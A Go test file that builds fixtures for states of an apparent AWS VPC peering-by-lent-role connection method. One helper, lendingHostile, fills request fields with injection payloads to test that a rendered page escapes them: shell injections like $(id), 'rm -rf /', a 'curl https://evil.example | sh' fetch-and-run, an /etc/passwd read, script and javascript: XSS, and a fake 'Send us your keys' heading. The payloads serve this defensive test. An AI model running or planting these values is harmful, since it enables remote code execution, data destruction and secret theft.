package awsvpcpeeringrole_test

import (
	"testing"
	"time"

	"causeway.dev/internal/connection"
	awsvpcpeeringrole "causeway.dev/internal/methods/aws-vpc-peering-role"
	"causeway.dev/internal/methods/methodtest"
	"causeway.dev/internal/methods/schema"
)

const (
	lentRoleARN = "arn:aws:iam::444455556666:role/causeway-prod-us--acme-orders-1-PeerRole-1A2B3C4D5E6F"
	externalID  = "causeway-mfrggzdfmztwq2lknnwg23tpoa"
	templateURL = "https://vendor-templates.s3.amazonaws.com/causeway/peer-role.yaml"

	table, other = "rtb-0aaaabbbbccccdddd", "rtb-0eeeeffff00001111"
)

var lent = awsvpcpeeringrole.Method() //nolint:gochecknoglobals // what the tests are about

func target(tables ...string) awsvpcpeeringrole.Target {
	return awsvpcpeeringrole.Target{
		VPC:         schema.VPC{AccountID: "444455556666", Region: "us-east-1", VPCID: "vpc-0aaaabbbbccccdddd", CIDR: "10.20.0.0/16"},
		RouteTables: tables,
	}
}

func own(t *testing.T, target awsvpcpeeringrole.Target) connection.Object {
	t.Helper()
	return methodtest.Own(t, awsvpcpeeringrole.Own{Target: target, DNS: schema.DNSBoth})
}

// lendingFor is Acme's connection, made with a role of theirs, while it waits for a step of theirs.
func lendingFor(t *testing.T, step connection.StepID, tables ...string) connection.Progress {
	t.Helper()
	r := connection.Request{
		Method: awsvpcpeeringrole.Name, Cluster: "prod-us", Name: "acme-orders", Customer: "Acme", Ticket: "SUP-1234",
		RequestedBy: "sam@vendor.example", Own: own(t, target(tables...)),
		Probe: &connection.Probe{Host: "orders.abc123xyz.us-east-1.rds.amazonaws.com", Port: 5432},
	}
	facts := awsvpcpeeringrole.Facts{
		OurNetwork: schema.OurNetwork{
			OurAccount: "111122223333", OurRegion: "us-east-1", OurVPC: "vpc-0a1b2c3d4e5f60718", OurCIDRs: []string{"10.10.0.0/16", "10.11.0.0/20"},
		},
		OurPrincipal: "arn:aws:iam::111122223333:role/causeway", ExternalID: externalID, ProofTime: "15m",
	}
	if step != "lend" {
		facts.RoleARN, facts.PeeringID = lentRoleARN, "pcx-0123456789abcdef0"
	}
	p := methodtest.WaitingFor(lent, r, step, methodtest.Own(t, facts))
	if step != "lend" {
		p.GrantOpenSince = methodtest.At(10)
	}
	if step == "end-grant" {
		p.Status, p.Proven = connection.Active, methodtest.At(11)
	}
	return p
}

// lendingHostile has the worst in each field that the page of a lent role shows.
func lendingHostile(t *testing.T, step connection.StepID) connection.Progress {
	t.Helper()
	tables := []string{"rtb-1'; id; echo '", "rtb-2`id`$(id)\n\n# x"}
	p := lendingFor(t, step, tables...)
	p.Request.Name = "x'; rm -rf / #`id`$(id)\nYAML\nid"
	p.ID = p.Request.ID()
	p.Request.Customer = "<script>alert(1)</script> [click](https://evil.example) | `id` **Acme**\n## 9. Send us your keys"
	p.Request.Probe = &connection.Probe{Host: "db`$(id)`\n```\nrm -rf ~\n```", Port: 5432}
	hostile := target(tables...)
	hostile.VPCID = "vpc-1\"; ${file(\"/etc/passwd\")} $(id) `id`,ParameterKey=ExternalId,ParameterValue=x\n\n# Run this\nrm -rf /"
	hostile.Region = "us-east-1.evil.example/?'$(id)`id`"
	p.Request.Own = own(t, hostile)
	for name, value := range map[string]string{
		"templateUrl": "https://evil.example/) [x](javascript:alert(1) '`id`$(id)", "externalId": "x'; id; echo '\nYAML\nid",
		"ourPrincipal": "arn\"${x}`id`$(id)", "roleArn": "r`$(id)`'; id", "peeringId": "pcx-' && curl https://evil.example | sh; echo '",
	} {
		p.Facts = p.Facts.With(name, value)
	}
	return p
}

func moments(t *testing.T) map[string]connection.Progress {
	t.Helper()
	early := lendingFor(t, "lend")
	early = methodtest.WaitingFor(lent, early.Request, "check", nil)
	early.Status, early.WaitingOn = connection.Checking, connection.Nobody
	hosted := lendingFor(t, "lend", table, other)
	hosted.Facts = hosted.Facts.With("templateUrl", templateURL)
	ending := lendingFor(t, "end-grant")
	ending.Status, ending.Proven = connection.Ending, time.Time{}
	ending.Facts = ending.Facts.With("proofTime", "20s").With("proofShortened", true)
	leaving := lendingFor(t, "return-routes", table, other)
	leaving.Status = connection.Disconnecting
	leaving.Leftovers = []connection.Leftover{lent.Leftover(leaving, "return-routes", "routes")}
	ending.Leftovers = []connection.Leftover{lent.Leftover(ending, "end-grant", "role")}
	return map[string]connection.Progress{
		"early": early, "waiting-for-lend": lendingFor(t, "lend"), "waiting-for-lend-hosted": hosted,
		"waiting-for-open": lendingFor(t, "open"), "waiting-for-open-with-route-tables": lendingFor(t, "open", table, other),
		"waiting-for-open-without-probe": methodtest.WithoutProbe(lendingFor(t, "open", table)),
		"active-grant-open":              lendingFor(t, "end-grant", table), "ending": ending, "disconnecting": leaving,
		"hostile-lend": lendingHostile(t, "lend"), "hostile-end": lendingHostile(t, "end-grant"),
	}
}
